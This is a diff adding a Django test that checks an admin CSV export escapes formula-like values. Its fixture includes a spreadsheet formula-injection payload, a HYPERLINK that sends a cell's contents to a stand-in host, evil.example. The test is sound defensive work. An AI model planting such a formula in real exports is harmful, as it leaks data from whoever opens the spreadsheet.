@@ -388,3 +388,19 @@ def test_the_decisions_task_run_twice_tells_each_applicant_once(django_capture_o
     assert first == {"sent": 2, "already_told": 0, "refused": 0}
     assert second == {"sent": 0, "already_told": 2, "refused": 0}
     assert sorted(m.to[0] for m in mail.outbox) == sorted([accepted.email, waitlisted.email])
+
+
+def test_the_export_escapes_what_a_spreadsheet_would_run_as_a_formula(admin_client):
+    name = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
+    application = ApplicationFactory(full_name=name, phone="@SUM(1+1)", hopes="+1 and -1")
+
+    response = admin_client.post(
+        CHANGELIST, {"action": "export_csv", "_selected_action": [application.pk]}
+    )
+
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert (row["Full name"], row["Phone"], row["Hopes"]) == (
+        "'" + name,
+        "'@SUM(1+1)",
+        "'+1 and -1",
+    )
